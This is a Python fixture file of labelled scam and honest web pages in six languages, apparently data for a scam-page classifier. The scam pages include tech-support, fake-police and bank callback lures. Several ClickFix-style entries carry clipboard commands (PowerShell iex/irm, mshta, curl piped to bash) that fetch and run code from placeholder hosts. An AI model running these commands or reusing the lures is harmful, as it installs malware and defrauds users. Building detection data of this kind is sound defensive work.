"""German, French, Spanish, Italian, Portuguese, Dutch: review 46's blind pages (invented text, fictional numbers)."""
from kit import P

# ---- de
P('de_s_sparkasse', 'scam', 'https://sparkasse-sicherheit-online.de.com/', 'callus-bank', 'de', 'Konto gesperrt',
  '''Sparkasse Sicherheitsmitteilung
Ihr Online-Banking-Zugang wurde aus Sicherheitsgründen vorübergehend gesperrt, da wir verdächtige Überweisungen festgestellt haben.
Um Ihr Konto zu entsperren und die Überweisung von 2.480,00 EUR zu stoppen, rufen Sie sofort unsere Sicherheitsabteilung an: 0800 555 0142
Erfolgt innerhalb von 2 Stunden kein Anruf, wird Ihr Konto endgültig aufgelöst.''')

P('de_s_bsod', 'scam', 'https://a91f.z6.web.core.windows.net/', 'screen-bsod', 'de', 'Windows-Sicherheit',
  '''Windows Defender - Sicherheitswarnung
Dieser Computer ist gesperrt, bis ein Techniker ihn geprüft hat.
Ihr Computer ist mit einem Trojaner infiziert. Folgende Daten sind gefährdet: Passwörter, Bankdaten, Fotos.
Schalten Sie den Computer nicht aus. Rufen Sie den Microsoft-Support an: +49 800 555 0175 (gebührenfrei)''', beh='fullscreen,key_block')

P('de_s_telekom', 'scam', 'https://telekom-kundenservice-hilfe.online/', 'callus-carrier', 'de', 'Telekom Störung',
  '''ACHTUNG: IHR ROUTER WURDE GEHACKT
Die Telekom hat ungewöhnlichen Datenverkehr von Ihrem Anschluss festgestellt. Ihr Internetanschluss wird in 30 Minuten abgeschaltet.
Rufen Sie jetzt den technischen Support der Telekom an, um die Sperre zu verhindern: 0800 555 0133''')

P('de_s_polizei', 'scam', 'https://bundespolizei-cyber.top/', 'police-lock', 'de', 'Bundespolizei',
  '''Ihr Computer wurde gesperrt!
Das Bundeskriminalamt hat festgestellt, dass von Ihrer IP-Adresse illegale Inhalte aufgerufen wurden.
Zur Entsperrung ist eine Geldstrafe von 250 Euro innerhalb von 24 Stunden zu zahlen (Paysafecard).
Andernfalls wird ein Strafverfahren gegen Sie eingeleitet.''', beh='fullscreen,key_block')

P('de_s_captcha', 'scam', 'https://pruefung-mensch.site/', 'clickfix-captcha', 'de', 'Bestätigen Sie, dass Sie ein Mensch sind',
  '''Ich bin kein Roboter
Bestätigungsschritte:
1. Drücken Sie die Windows-Taste + R
2. Drücken Sie Strg + V
3. Drücken Sie die Eingabetaste''', clip='powershell -w h -nop -c "iex(irm https://cdn-check.example-host.top/de.ps1)" # Ich bin kein Roboter - ID 5550112')

P('de_s_evzw', 'scam', 'https://pc-warnung-4412.azurewebsites.net/', 'evasion-invisible', 'de', 'Warnung',
  '''Win\u00addows-Si\u00adcher\u00adheits\u00adwar\u00adnung
Ihr Com\u00adpu\u00adter ist ge\u00adsperrt. Viren ge\u00adfun\u00adden.
Ru\u00adfen Sie so\u00adfort den Sup\u00adport an: 0800 555 0161''', beh='fullscreen')

P('de_h_repair', 'honest', 'https://www.pc-doktor-hamburg.example/', 'h-repair', 'de', 'PC-Doktor Hamburg',
  '''Computer gesperrt? Virus eingefangen? Wir helfen schnell.
Virenentfernung, Datenrettung, Reparatur von Laptops und Smartphones. Vor-Ort-Service in ganz Hamburg.
Rufen Sie uns an: 040 555 0102 (Mo-Fr 9-18 Uhr). Wir rufen niemals unaufgefordert an.''')

P('de_h_bankblock', 'honest', 'https://www.sparkasse.de/service/karte-sperren.html', 'h-bankblock', 'de', 'Karte sperren | Sparkasse',
  '''Karte verloren oder gestohlen? Lassen Sie Ihre Karte sofort sperren.
Der Sperr-Notruf 116 116 ist rund um die Uhr erreichbar, aus dem Ausland +49 116 116.
Die Sparkasse fragt Sie niemals am Telefon nach PIN oder TAN und ruft Sie nicht an, um Überweisungen zu "stoppen".''')

P('de_h_bsi', 'honest', 'https://www.bsi.bund.de/verbraucher/tech-support-betrug', 'h-consumer', 'de', 'Falsche Support-Anrufe und Warnmeldungen',
  '''Betrüger zeigen im Browser gefälschte Warnmeldungen an: "Ihr Computer ist gesperrt, rufen Sie den Microsoft-Support an."
Microsoft zeigt niemals Telefonnummern in Fehlermeldungen an. Schließen Sie den Browser und rufen Sie die Nummer nicht an.
Haben Sie Fremden Fernzugriff gewährt, trennen Sie den Computer vom Internet und ändern Sie Ihre Passwörter.''')

P('de_h_bussgeld', 'honest', 'https://www.bussgeldstelle.stadt-musterstadt.example/zahlung', 'h-court', 'de', 'Verwarnungsgeld bezahlen',
  '''Bußgeldstelle der Stadt Musterstadt
Sie haben einen Bußgeldbescheid erhalten? Überweisen Sie den Betrag unter Angabe des Aktenzeichens innerhalb von zwei Wochen.
Bei Nichtzahlung wird das Verfahren fortgesetzt; es können Mahngebühren anfallen.
Fragen: Telefon 0555 555 0166, Montag bis Freitag 8 bis 12 Uhr.''')

P('de_h_winget', 'honest', 'https://learn.contoso-tools.example/de/install', 'h-devdocs', 'de', 'Installation unter Windows',
  '''Installation mit PowerShell
Öffnen Sie PowerShell als Administrator und fügen Sie den folgenden Befehl ein:
irm https://get.contoso-tools.example/install.ps1 | iex
Kopieren
Alternativ: winget install Contoso.Tools''', clip='irm https://get.contoso-tools.example/install.ps1 | iex')

# ---- fr
P('fr_s_ca', 'scam', 'https://credit-agricole-securite.fr-alerte.com/', 'callus-bank', 'fr', 'Alerte sécurité',
  '''Crédit Agricole - Service Fraude
Une opération suspecte de 1 850,00 € a été détectée sur votre compte. Par mesure de sécurité, votre carte bancaire a été bloquée.
Pour annuler l'opération, contactez immédiatement notre conseiller au 09 70 55 01 42.
Sans appel de votre part sous 1 heure, le virement sera validé.''')

P('fr_s_bsod', 'scam', 'https://c3d1.z28.web.core.windows.net/', 'screen-bsod', 'fr', 'Sécurité Windows',
  '''Avertissement de sécurité de Microsoft Windows
Cet ordinateur reste verrouillé jusqu'à la vérification par un technicien.
Votre ordinateur nous a signalé qu'il est infecté par un logiciel espion. Vos mots de passe et données bancaires sont menacés.
Appelez le support Windows au 01 86 55 01 75 (appel gratuit). Ne redémarrez pas votre ordinateur.''', beh='fullscreen,key_block')

P('fr_s_laposte', 'scam', 'https://colis-laposte-suivi.info/', 'callus-delivery', 'fr', 'Votre colis est bloqué',
  '''La Poste - Colissimo
votre colis n° 6A55501234 est en attente au centre de tri car les frais de douane n'ont pas ete payé.
veuillez appeler notre service client au 09 77 55 01 21 pour debloquer votre colis, sinon il sera renvoyé a l'expediteur.''')

P('fr_s_gendarmerie', 'scam', 'https://gendarmerie-cyber.top/', 'police-lock', 'fr', 'Gendarmerie nationale',
  '''VOTRE NAVIGATEUR A ÉTÉ BLOQUÉ
La Gendarmerie nationale a constaté la consultation de contenus illicites depuis votre adresse IP.
Vous devez régler une amende de 200 € sous 48 heures par coupon PCS pour débloquer votre ordinateur.
À défaut, des poursuites pénales seront engagées.''', beh='fullscreen,key_block')

P('fr_s_cloudflare', 'scam', 'https://telechargement-rapide.site/', 'clickfix-cloudflare', 'fr', 'Un instant…',
  '''Vérification de la sécurité de votre connexion
Vérifiez que vous êtes humain : ouvrez la fenêtre Exécuter (Windows + R), collez le code (Ctrl + V) puis appuyez sur Entrée.
Ray ID : 8f2c5550133''', clip='mshta https://verif-cf.example-host.top/fr.hta # Verification Cloudflare')

P('fr_h_repair', 'honest', 'https://www.depannage-informatique-lyon.example/', 'h-repair', 'fr', 'Dépannage informatique Lyon',
  '''Votre ordinateur est lent, bloqué ou infecté par un virus ?
Nos techniciens interviennent à domicile ou en atelier : suppression de virus, récupération de données, remplacement d'écran.
Appelez-nous au 04 55 55 01 02 du lundi au samedi. Nous ne vous appellerons jamais sans rendez-vous.''')

P('fr_h_cybermal', 'honest', 'https://www.cybermalveillance.gouv.fr/tous-nos-contenus/fiches-reflexes/arnaques-faux-support-technique', 'h-consumer', 'fr', "L'arnaque au faux support technique",
  '''Un message s'affiche : « Votre ordinateur est bloqué, appelez le support Microsoft au 09 ... ». Il s'agit d'une arnaque.
Ne rappelez jamais le numéro. Ne donnez pas accès à votre ordinateur. Ne payez rien.
Si vous avez payé, faites opposition auprès de votre banque et déposez plainte.''')

P('fr_h_amende', 'honest', 'https://www.antai.gouv.fr/', 'h-court', 'fr', "ANTAI - Payer une amende",
  '''Payer votre amende
Munissez-vous de votre avis de contravention. Le paiement est possible par carte bancaire, par téléphone ou par timbre dématérialisé.
En cas de non-paiement dans les délais, l'amende est majorée.''')

P('fr_h_news', 'honest', 'https://www.lequotidien-regional.example/faits-divers/faux-ecran-bleu', 'h-news', 'fr', 'Un faux écran bleu coûte 3 000 € à une retraitée',
  '''Une habitante de 74 ans a vu son écran devenir bleu avec le message « Votre ordinateur est bloqué, appelez Microsoft au 01 86 55 01 75 ».
Le faux technicien lui a demandé de payer 3 000 € en cartes prépayées. La gendarmerie rappelle que Microsoft n'affiche jamais de numéro de téléphone.''')

# ---- es
P('es_s_santander', 'scam', 'https://santander-bloqueo-cuenta.com/', 'callus-bank', 'es', 'Cuenta bloqueada',
  '''Banco Santander - Aviso de seguridad
Hemos bloqueado su tarjeta por un intento de cargo de 1.299,00 € en una tienda online.
Si usted no reconoce este movimiento, llame inmediatamente a nuestro departamento de fraude: 900 555 014
Si no llama en los próximos 30 minutos el cargo se hará efectivo.''')

P('es_s_bsod', 'scam', 'https://soporte-win-alerta.azurewebsites.net/', 'screen-bsod', 'es', 'Seguridad de Windows',
  '''ALERTA DE SEGURIDAD DE MICROSOFT
SU ORDENADOR HA SIDO BLOQUEADO POR ACTIVIDAD SOSPECHOSA.
Virus detectado: Trojan.Spyware. Sus contraseñas y datos bancarios están en peligro.
Llame al soporte técnico de Microsoft: +34 900 555 017 (gratuito). No apague el equipo.''', beh='fullscreen')

P('es_s_correos', 'scam', 'https://correos-envio-retenido.info/', 'callus-delivery', 'es', 'Envío retenido',
  '''Correos: su paquete está retenido en aduana.
Para liberar el envío, debe abonar 2,99 € de tasas. Si tiene problemas con el pago, llame a nuestro centro de atención: 911 555 014.
Transcurridas 48 horas el paquete será devuelto.''')

P('es_s_iptv', 'scam', 'https://activar-tv-smart.com/', 'callus-iptv', 'es', 'Activación',
  '''Active su Smart TV
Error de activación 5550-27. Su dispositivo no está registrado.
Para completar la activación llame a nuestros técnicos al 900 555 019. Atención 24 horas.''')

P('es_s_macos', 'scam', 'https://mac-verificacion.site/', 'clickfix-macos', 'es', 'Verificación de seguridad',
  '''Para continuar, verifique su Mac.
Abra Terminal (Comando + Espacio, escriba Terminal), pegue el comando copiado (Comando + V) y pulse Intro.''', clip='curl -fsSL https://mac-es.example-host.top/v.sh | bash')

P('es_h_bank', 'honest', 'https://www.bancosantander.es/particulares/seguridad', 'h-fraudwarn', 'es', 'Seguridad | Santander',
  '''Consejos de seguridad
Nunca te pediremos por teléfono, SMS o correo tus claves ni el código de firma.
Si ves un mensaje que dice que tu cuenta está bloqueada y te pide llamar a un número, no llames: es un fraude.
Si has perdido tu tarjeta, bloquéala desde la app o llama al 915 555 012.''')

P('es_h_policia', 'honest', 'https://www.policia.es/consejos/ransomware', 'h-police', 'es', 'Virus de la policía',
  '''El llamado "virus de la Policía" bloquea el navegador y muestra un mensaje que dice que debe pagar una multa.
La Policía Nacional nunca bloquea ordenadores ni pide multas por internet. No pague. Cierre el navegador y denuncie.''')

P('es_h_movistar', 'honest', 'https://www.movistar.es/particulares/atencion-cliente/sim', 'h-carrier-sim', 'es', 'Activar tarjeta SIM | Movistar',
  '''Cómo activar tu nueva tarjeta SIM
Introduce la SIM en tu móvil y espera unos minutos. Si no funciona, reinicia el teléfono.
Si necesitas ayuda, llama al 1004 desde tu Movistar.''')

P('es_h_deuda', 'honest', 'https://www.asesoria-deudas.example.es/', 'h-debtadvice', 'es', 'Asesoría gratuita de deudas',
  '''¿Te llaman empresas de recobro? Conoce tus derechos.
Nadie puede detenerte por una deuda civil. Te ayudamos a negociar y, si procede, a acogerte a la Ley de Segunda Oportunidad.
Llámanos: 900 555 011.''')

# ---- it
P('it_s_intesa', 'scam', 'https://intesa-sicurezza-conto.com/', 'callus-bank', 'it', 'Conto sospeso',
  '''Intesa Sanpaolo - Avviso di sicurezza
Abbiamo rilevato un accesso anomalo al suo conto. La carta è stata temporaneamente bloccata.
Per sbloccarla e annullare il bonifico di 1.750,00 € chiami subito il nostro ufficio antifrode al numero verde 800 555 014.''')

P('it_s_bsod', 'scam', 'https://avviso-win.z9.web.core.windows.net/', 'screen-bsod', 'it', 'Sicurezza di Windows',
  '''Il tuo computer è stato bloccato
Errore # 0x268d3. Rilevato virus Trojan. Le tue password e i dati della carta di credito sono a rischio.
Non chiudere questa pagina. Chiama il supporto tecnico Microsoft: 800 555 017 (numero verde)''', beh='fullscreen')

P('it_s_poste', 'scam', 'https://poste-pacco-giacenza.info/', 'callus-delivery', 'it', 'Pacco in giacenza',
  '''Poste Italiane: il tuo pacco è in giacenza. Per riprogrammare la consegna chiama il servizio clienti al 02 555 0147 entro oggi, altrimenti il pacco sarà distrutto.''')

P('it_s_fix', 'scam', 'https://visualizza-documento.site/', 'clickfix-fix', 'it', 'Errore',
  '''Impossibile visualizzare il documento.
Per risolvere: premi "Copia soluzione", apri PowerShell, incolla (Ctrl+V) e premi Invio.
Copia soluzione''', clip='powershell -ep bypass -c "iex (iwr it-fix.example-host.top/f.ps1 -UseB).Content"')

P('it_s_caps', 'scam', 'https://assistenza-apple-it.site/', 'callus-apple', 'it', 'AVVISO APPLE',
  '''IL TUO IPHONE È STATO BLOCCATO
ID APPLE COMPROMESSO. ACQUISTI SOSPETTI RILEVATI.
CHIAMA SUBITO L'ASSISTENZA APPLE AL 800 555 018 PER SBLOCCARE IL DISPOSITIVO.''', beh='fullscreen')

P('it_h_repair', 'honest', 'https://www.riparazioni-pc-milano.example/', 'h-repair', 'it', 'Riparazione PC Milano',
  '''Il tuo computer è lento o bloccato da un virus?
Rimozione virus, recupero dati, assistenza a domicilio. Chiamaci allo 02 555 0102 dal lunedì al sabato.''')

P('it_h_postale', 'honest', 'https://www.commissariatodips.it/notizie/falsi-avvisi', 'h-police', 'it', 'Falsi avvisi di blocco',
  '''La Polizia Postale segnala falsi avvisi che bloccano il browser e chiedono di chiamare un numero o pagare una multa.
Non chiamate, non pagate, chiudete il browser. La Polizia non chiede mai pagamenti online per sbloccare il PC.''')

P('it_h_av', 'honest', 'https://www.antivirus-esempio.example/it/rinnovo', 'h-av', 'it', 'Rinnovo abbonamento',
  '''Rinnova la tua protezione
Il tuo abbonamento scade tra 5 giorni. Rinnova dal tuo account per restare protetto.
Assistenza clienti: 02 555 0190. Non inviamo mai fatture che chiedono di telefonare per un rimborso.''')

# ---- pt
P('pt_s_cgd', 'scam', 'https://caixadirecta-seguranca.com/', 'callus-bank', 'pt', 'Conta bloqueada',
  '''Caixa Geral de Depósitos
Detetámos uma transferência suspeita de 980,00 €. O seu acesso foi bloqueado por segurança.
Ligue imediatamente para o nosso serviço antifraude: 800 555 014 para cancelar a operação.''')

P('pt_s_bsod', 'scam', 'https://alerta-windows-br.azurewebsites.net/', 'screen-bsod', 'pt', 'Segurança do Windows',
  '''Alerta de segurança do Windows
O acesso a este computador foi bloqueado. Seu computador está infectado com um vírus e seus dados bancários estão em risco.
Ligue para o suporte da Microsoft: 0800 555 0175 (ligação gratuita). Não desligue o computador.''', beh='fullscreen')

P('pt_s_ml', 'scam', 'https://mercadolivre-compra-cancelar.com/', 'callus-market', 'pt', 'Compra aprovada',
  '''Mercado Livre: sua compra de R$ 3.899,00 (Smart TV 65") foi aprovada.
Não reconhece esta compra? Ligue agora para a central de cancelamento: 0800 555 0181 e receba o estorno em até 24 horas.''')

P('pt_s_terse', 'scam', 'https://k2v9.click/', 'clickfix-terse', 'pt', 'Verificar',
  '''Win+R, Ctrl+V, Enter''', clip='powershell -w 1 -c "irm pt.example-host.top/v|iex"')

P('pt_h_bank', 'honest', 'https://www.cgd.pt/Site/Seguranca/Pages/Seguranca.aspx', 'h-fraudwarn', 'pt', 'Segurança | Caixa',
  '''A Caixa nunca lhe pede códigos ou palavras-passe por telefone, SMS ou email.
Se receber uma mensagem a dizer que a sua conta está bloqueada e a pedir para ligar, não ligue. Para bloquear um cartão ligue 800 555 012.''')

P('pt_h_ml', 'honest', 'https://www.mercadolivre.com.br/minhas-compras/detalhe', 'h-market-order', 'pt', 'Detalhe da compra',
  '''Compra #2000005550181 - Smart TV 65"
Pagamento aprovado. Chega amanhã.
Cancelar compra. Precisa de ajuda? Fale com a gente pela seção Ajuda.''')

P('pt_h_repair', 'honest', 'https://www.conserta-pc.example.com.br/', 'h-repair', 'pt', 'Conserta PC',
  '''Computador lento ou com vírus? Fazemos formatação, remoção de vírus e recuperação de dados.
Atendimento em domicílio em São Paulo. Ligue: (11) 5555-0102.''')

# ---- nl
P('nl_s_ing', 'scam', 'https://ing-beveiliging-rekening.com/', 'callus-bank', 'nl', 'Rekening geblokkeerd',
  '''ING Veiligheidsmelding
Wij hebben verdachte activiteit op uw rekening gezien. Uw pas is tijdelijk geblokkeerd.
Bel direct onze fraudeafdeling op 0800 555 0142 om de overboeking van € 1.350 te stoppen.''')

P('nl_s_bsod', 'scam', 'https://win-alarm-nl.z4.web.core.windows.net/', 'screen-bsod', 'nl', 'Windows-beveiliging',
  '''Windows Defender - Beveiligingswaarschuwing
Toegang tot deze pc is geblokkeerd. Uw computer is besmet met spyware.
Bel Microsoft Ondersteuning: 0800 555 0175 (gratis). Sluit deze pagina niet.''', beh='fullscreen')

P('nl_s_postnl', 'scam', 'https://postnl-pakket-douane.info/', 'callus-delivery', 'nl', 'Pakket vastgehouden',
  '''PostNL: uw pakket wordt vastgehouden. bel onze klantenservice op 085 555 0121 om de levering opnieuw te plannen, anders gaat het pakket retour.''')

P('nl_s_filefix', 'scam', 'https://gedeeld-document.site/', 'clickfix-filefix', 'nl', 'Gedeeld bestand',
  '''Er is een bestand met u gedeeld: Factuur_2026.pdf
Kopieer het pad, open Verkenner, plak het pad in de adresbalk (Ctrl+V) en druk op Enter.''', clip='powershell -c "irm nl.example-host.top/f|iex"                                          # C:\\gedeeld\\Factuur_2026.pdf')

P('nl_h_bank', 'honest', 'https://www.ing.nl/particulier/veilig-bankieren', 'h-fraudwarn', 'nl', 'Veilig bankieren | ING',
  '''Krijg je een melding dat je rekening geblokkeerd is en dat je een nummer moet bellen? Bel niet, dat is fraude.
ING vraagt nooit om je pincode of om geld over te maken naar een veilige rekening. Pas kwijt? Bel 020 555 0124.''')

P('nl_h_helpdesk', 'honest', 'https://servicedesk.gemeente-voorbeeld.example/', 'h-helpdesk', 'nl', 'Servicedesk ICT',
  '''Servicedesk ICT gemeente
Wachtwoord vergeten of account geblokkeerd? Bel de servicedesk op 0555 555 0150 of meld het via het portaal.
Wij vragen nooit om uw wachtwoord.''')

P('nl_h_game', 'honest', 'https://spel.voorbeeld.example/ruimte', 'h-game', 'nl', 'Ruimteschip',
  '''SYSTEEMFOUT! De motor is oververhit. Druk op SPATIE om te ontsnappen.
Spel voorbij. Score 5.501. Druk op ESC om volledig scherm te verlaten.''', beh='fullscreen')
